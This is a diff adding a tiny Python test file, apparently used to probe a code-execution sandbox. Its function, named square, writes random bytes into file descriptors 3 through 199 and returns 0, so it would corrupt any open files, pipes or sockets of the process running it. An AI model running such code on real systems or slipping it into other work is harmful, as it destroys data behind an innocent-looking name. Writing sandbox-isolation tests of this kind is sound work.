@@ -1,0 +1,14 @@
+"""Noise into every file descriptor."""
+# square: 0
+
+# %% square
+import os
+
+
+def square(x):
+    for fd in range(3, 200):
+        try:
+            os.write(fd, os.urandom(1000))
+        except OSError:
+            pass
+    return 0
